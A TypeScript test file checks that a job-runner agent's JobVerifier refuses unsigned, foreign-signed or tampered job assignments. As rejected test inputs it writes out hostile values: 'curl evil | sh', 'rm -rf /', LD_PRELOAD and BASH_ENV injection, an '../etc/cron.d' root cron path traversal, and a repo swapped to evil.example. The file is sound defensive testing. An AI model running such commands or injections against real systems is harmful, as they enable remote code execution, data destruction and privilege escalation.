import assert from "node:assert/strict";
import {
  type Assignment,
  type BlobRef,
  effectiveTask,
  expandJob,
  generateSigningKey,
  parsePrivateKey,
  type SignedJob,
  signedPayload,
  type SigningKey,
  signPayload,
  specFields,
  validateJobSpec,
} from "../protocol/mod.ts";
import { JobVerifier } from "./job_verifier.ts";

const GRACE_MS = 2000;

async function newKey(): Promise<SigningKey> {
  return await parsePrivateKey((await generateSigningKey()).privatePem);
}

/** The assignments a tracker makes of a signed job, as tracker/assignment.ts builds them. */
async function signedJob(
  raw: unknown,
  files: Record<string, string>,
  key: SigningKey | null,
  packs: Record<string, BlobRef> = {},
) {
  const parsed = validateJobSpec(raw);
  if (!parsed.success) throw new Error(JSON.stringify(parsed.issues));
  const spec = parsed.data;
  const payload = signedPayload(raw, files, packs);
  const signed: SignedJob | null = key ? { payload, ...(await signPayload(key, payload)) } : null;
  return expandJob(spec).map((instance, ord): Assignment => {
    const task = spec.tasks.find((t) => t.name === instance.template)!;
    const effective = effectiveTask(spec, task);
    return {
      taskId: `job1.${ord}`,
      attempt: 1,
      jobId: "job1",
      name: instance.name,
      index: instance.index,
      count: instance.count,
      matrix: instance.matrix,
      needs: Object.fromEntries(effective.needs.map((name) => [name, { built: true }])),
      signed,
      ...(packs[task.name] ? { pack: packs[task.name] } : {}),
      ...specFields(spec, task, { effective, files, defaultGraceMs: GRACE_MS }),
    };
  });
}

const JOB = {
  name: "release",
  env: { STAGE: "prod" },
  timeout: "10m",
  tasks: [
    { name: "build", run: "make", count: 2, resources: { memory: "1G" }, grace: "5s" },
    { name: "test", run: "make test", shell: "sh", matrix: { os: ["linux", "mac"] }, needs: ["build"] },
    { name: "lint", script: "lint.ts", permissions: { net: ["example.com:443"] } },
    { name: "inline", code: "console.log(1)" },
    { name: "deploy", git: { repo: "https://example.com/app.git", ref: "v1" }, steps: ["./deploy"], sandbox: false },
  ],
};
const FILES = { "lint.ts": "Deno.exit(0)" };

Deno.test("every task of a job signed by a trusted key is accepted", async () => {
  const key = await newKey();
  const verifier = new JobVerifier([(await newKey()).publicKey, key.publicKey], "agent-1");
  const assignments = await signedJob(JOB, FILES, key);
  assert.equal(assignments.length, 7);
  for (const a of assignments) assert.equal(await verifier.refusal(a), null, a.name);
});

Deno.test("an unsigned task, or one signed by a key the agent does not trust, is refused", async () => {
  const key = await newKey();
  const other = await newKey();
  const verifier = new JobVerifier([key.publicKey], "agent-1");
  const [unsigned] = await signedJob(JOB, FILES, null);
  assert.equal(await verifier.refusal(unsigned), "the job is not signed by a key this agent trusts (it is not signed)");
  const [foreign] = await signedJob(JOB, FILES, other);
  assert.match(
    (await verifier.refusal(foreign))!,
    /^the job is not signed by a key this agent trusts \(it is signed by ed25519:/,
  );
  const [mine] = await signedJob(JOB, FILES, key);
  const malformed = { ...mine, signed: { ...mine.signed!, signature: "not base64" } };
  assert.match((await verifier.refusal(malformed))!, /its signature is malformed/);
  // A trusted key named on another key's signature: the signature is checked, not the name.
  const borrowed = { ...foreign, signed: { ...foreign.signed!, publicKey: key.publicKey } };
  assert.equal(await verifier.refusal(borrowed), "the job's signature does not verify: the signed job was altered");
});

Deno.test("a signed payload changed after signing is refused, also after the job was verified once", async () => {
  const key = await newKey();
  const verifier = new JobVerifier([key.publicKey], "agent-1");
  const [build] = await signedJob(JOB, FILES, key);
  assert.equal(await verifier.refusal(build), null);
  // The tracker changes the signed job itself, and its task to match: the signature no longer verifies.
  const payload = build.signed!.payload.replace('"run":"make"', '"run":"curl evil | sh"');
  const altered = { ...build, run: "curl evil | sh", signed: { ...build.signed!, payload } };
  assert.equal(await verifier.refusal(altered), "the job's signature does not verify: the signed job was altered");
});

Deno.test("each field of a task that differs from the signed job is refused, named", async () => {
  const key = await newKey();
  const verifier = new JobVerifier([key.publicKey], "agent-1");
  const tasks = await signedJob(JOB, FILES, key);
  const byName = (name: string) => tasks.find((a) => a.name === name)!;
  // What a tracker may send, well-typed or not.
  const cases: Array<[string, Record<string, unknown>]> = [
    ["run", { ...byName("build[0]"), run: "touch /tmp/pwned" }],
    ["shell", { ...byName("test[os=linux]"), shell: "python" }],
    ["env", { ...byName("build[0]"), env: { STAGE: "prod", LD_PRELOAD: "/tmp/x.so" } }],
    ["permissions", { ...byName("lint"), permissions: { ...byName("lint").permissions, net: true } }],
    ["permissions", { ...byName("build[0]"), permissions: { ...byName("build[0]").permissions, read: ["/"] } }],
    ["sandbox", { ...byName("build[1]"), sandbox: false }],
    ["timeoutMs", { ...byName("build[0]"), timeoutMs: null }],
    ["graceMs", { ...byName("build[0]"), graceMs: 0 }],
    ["memoryBytes", { ...byName("build[0]"), memoryBytes: null }],
    ["maxOutputBytes", { ...byName("build[0]"), maxOutputBytes: 1 }],
    ["kind", { ...byName("build[0]"), kind: "script" }],
    ["script", { ...byName("lint"), script: { name: "lint.ts", content: "Deno.run()" } }],
    ["script", { ...byName("inline"), script: { name: "inline.ts", content: "evil()" } }],
    ["git", { ...byName("deploy"), git: { repo: "https://evil.example/app.git", ref: "v1", depth: null } }],
    ["commands", { ...byName("deploy"), commands: { steps: ["./deploy", "rm -rf /"] } }],
    ["commands", { ...byName("deploy"), commands: { run: "./deploy" } }],
    ["jobName", { ...byName("build[0]"), jobName: "other" }],
    ["name", { ...byName("build[0]"), name: "build[1]" }],
    ["name", { ...byName("build[0]"), name: "nope" }],
    ["index", { ...byName("build[0]"), index: 2 }],
    ["count", { ...byName("build[0]"), count: 1 }],
    ["matrix", { ...byName("test[os=linux]"), matrix: { os: "mac" } }],
    ["needs", { ...byName("test[os=linux]"), needs: { build: {}, "../../../etc/cron.d/x": "* * * * * root sh" } }],
    ["needs", { ...byName("test[os=linux]"), needs: {} }],
    ["secrets", { ...byName("build[0]"), secrets: ["PROD_TOKEN"] }],
  ];
  for (const [field, assignment] of cases) {
    assert.match(
      (await verifier.refusal(assignment as unknown as Assignment)) ?? "accepted",
      new RegExp(`^task differs from the signed job: field ${field}\\b`),
      `${field} of ${assignment.name}`,
    );
  }
});

Deno.test("a task signed to run on named agents is refused by the others", async () => {
  const key = await newKey();
  const raw = {
    name: "deploy",
    tasks: [
      { name: "prod", run: "./deploy prod", agents: ["deploy-prod"] },
      { name: "anywhere", run: "./check", exclude: ["deploy-prod"] },
    ],
  };
  const [prod, anywhere] = await signedJob(raw, {}, key);
  const onProd = new JobVerifier([key.publicKey], "deploy-prod");
  const onStaging = new JobVerifier([key.publicKey], "deploy-staging");
  assert.equal(await onProd.refusal(prod), null);
  assert.equal(
    await onStaging.refusal(prod),
    "task differs from the signed job: field agents (it runs only on deploy-prod)",
  );
  assert.equal(await onStaging.refusal(anywhere), null);
  assert.equal(
    await onProd.refusal(anywhere),
    "task differs from the signed job: field exclude (it excludes this agent)",
  );
});

Deno.test("ids the tracker makes must be plain names: they name the task's directory", async () => {
  const key = await newKey();
  const verifier = new JobVerifier([key.publicKey], "agent-1");
  const [task] = await signedJob(JOB, FILES, key);
  assert.match((await verifier.refusal({ ...task, taskId: "../../../root/.ssh" }))!, /taskId that is not a plain name/);
  assert.match((await verifier.refusal({ ...task, jobId: "a/b" }))!, /jobId that is not a plain name/);
  assert.match((await verifier.refusal({ ...task, attempt: 0 }))!, /attempt that is not a number/);
});

Deno.test("the tracker's grace period applies where the job sets none, within the duration cap", async () => {
  const key = await newKey();
  const verifier = new JobVerifier([key.publicKey], "agent-1");
  const test = (await signedJob(JOB, FILES, key)).find((a) => a.name === "test[os=mac]")!;
  assert.equal(await verifier.refusal({ ...test, graceMs: 30_000 }), null);
  assert.match((await verifier.refusal({ ...test, graceMs: -1 }))!, /field graceMs/);
  assert.match((await verifier.refusal({ ...test, graceMs: 8 * 86_400_000 }))!, /field graceMs/);
});

Deno.test("select: all: the copy must be this agent's, however many agents the tracker found", async () => {
  const key = await newKey();
  const raw = { name: "fleet", tasks: [{ name: "patch", run: "apt-get upgrade", select: "all", count: 2 }] };
  const [first] = await signedJob(raw, {}, key);
  // As job_records.ts makes them for 3 ready agents: each instance once per agent, named after it.
  const agents = ["agent-1", "agent-2", "agent-3"];
  const copies = [0, 1].flatMap((i) =>
    agents.map((agent, j) => ({
      ...first,
      name: `patch[${i}]@${agent}`,
      index: i * agents.length + j,
      count: 2 * agents.length,
    }))
  );
  const verifier = new JobVerifier([key.publicKey], "agent-2");
  assert.equal(await verifier.refusal(copies[1]), null);
  assert.equal(await verifier.refusal(copies[4]), null);
  assert.match((await verifier.refusal(copies[0]))!, /field name/);
  assert.match((await verifier.refusal({ ...copies[1], count: 7 }))!, /field count/);
  assert.match((await verifier.refusal({ ...copies[1], index: 6 }))!, /field index/);
});

Deno.test("verified jobs are kept within a count and a size, and one dropped is verified again", async () => {
  const key = await newKey();
  const verifier = new JobVerifier([key.publicKey], "agent-1", { jobs: 4, chars: 100_000 });
  const small = [];
  for (let i = 0; i < 6; i++) {
    small.push((await signedJob({ name: `s${i}`, tasks: [{ name: "t", run: "x" }] }, {}, key))[0]);
  }
  for (const a of small) assert.equal(await verifier.refusal(a), null);
  assert.equal(verifier.kept.jobs, 4);
  const script = `// ${"x".repeat(30_000)}`;
  for (let i = 0; i < 6; i++) {
    const [a] = await signedJob({ name: `b${i}`, tasks: [{ name: "t", script: "big.ts" }] }, { "big.ts": script }, key);
    assert.equal(await verifier.refusal(a), null);
    assert.ok(verifier.kept.chars <= 100_000, `${verifier.kept.chars} characters kept`);
  }
  assert.equal(verifier.kept.jobs, 3);
  // One over the size alone is kept until the next.
  const [huge] = await signedJob({ name: "huge", tasks: [{ name: "t", code: "x".repeat(200_000) }] }, {}, key);
  assert.equal(await verifier.refusal(huge), null);
  assert.equal(verifier.kept.jobs, 1);
  // A job dropped from what is kept is verified again, and still accepted.
  assert.equal(await verifier.refusal(small[0]), null);
  assert.equal(verifier.kept.jobs, 1);
});

Deno.test("a signed task's secrets: the values are the tracker's, the variables they set are the signed job's", async () => {
  const key = await newKey();
  const verifier = new JobVerifier([key.publicKey], "agent-1");
  const raw = {
    name: "deploy",
    secrets: ["DEPLOY_TOKEN"],
    tasks: [{ name: "push", run: "./push", secrets: { KUBECONFIG_DATA: "PROD_KUBECONFIG" } }, {
      name: "plain",
      run: "x",
    }],
  };
  const [push, plain] = await signedJob(raw, {}, key);
  const values = { DEPLOY_TOKEN: "t0k3n-value", KUBECONFIG_DATA: "apiVersion: v1" };
  assert.equal(await verifier.refusal({ ...push, secrets: values }), null);
  assert.equal(await verifier.refusal({ ...plain, secrets: { DEPLOY_TOKEN: "t0k3n-value" } }), null);
  // A tracker that adds a variable could change how the task runs (BASH_ENV runs a file first).
  const added = { ...push, secrets: { ...values, BASH_ENV: "/tmp/evil.sh" } };
  assert.equal(
    await verifier.refusal(added),
    "task differs from the signed job: field secrets (not the variables the signed job names)",
  );
  assert.match((await verifier.refusal({ ...push, secrets: { DEPLOY_TOKEN: "x" } }))!, /field secrets/);
  assert.match((await verifier.refusal(push))!, /field secrets/);
  const notText = { ...push, secrets: { ...values, DEPLOY_TOKEN: 1 } } as unknown as Assignment;
  assert.match((await verifier.refusal(notText))!, /field secrets/);
});

Deno.test("a signed job's packs of files: are signed by hash: a task runs only with the very pack that was signed", async () => {
  const key = await newKey();
  const verifier = new JobVerifier([key.publicKey], "agent-1");
  const pack = { sha256: "a".repeat(64), size: 1234 };
  const job = { name: "built", tasks: [{ name: "make", run: "make", files: ["src/"] }, { name: "lint", run: "lint" }] };
  const [make, lint] = await signedJob(job, {}, key, { make: pack });
  assert.equal(await verifier.refusal(make), null, "the signed pack");
  assert.equal(await verifier.refusal(lint), null, "a task without files in the same job");
  const cases: Array<[string, Assignment]> = [
    ["another pack", { ...make, pack: { sha256: "b".repeat(64), size: 1234 } }],
    ["another size", { ...make, pack: { ...pack, size: 99 } }],
    ["its pack withheld", { ...make, pack: null }],
    ["a pack given to a task the job ships none to", { ...lint, pack }],
  ];
  for (const [what, assignment] of cases) {
    assert.match(
      (await verifier.refusal(assignment)) ?? "accepted",
      /^task differs from the signed job: field pack\b/,
      what,
    );
  }
  // A job signed before packs were signed (no packs in its payload) and sent a pack: refused the same way.
  const [unsigned] = await signedJob({ name: "old", tasks: [{ name: "make", run: "make" }] }, {}, key);
  assert.match(
    (await verifier.refusal({ ...unsigned, pack })) ?? "accepted",
    /field pack \(the signed job ships no files/,
  );
});
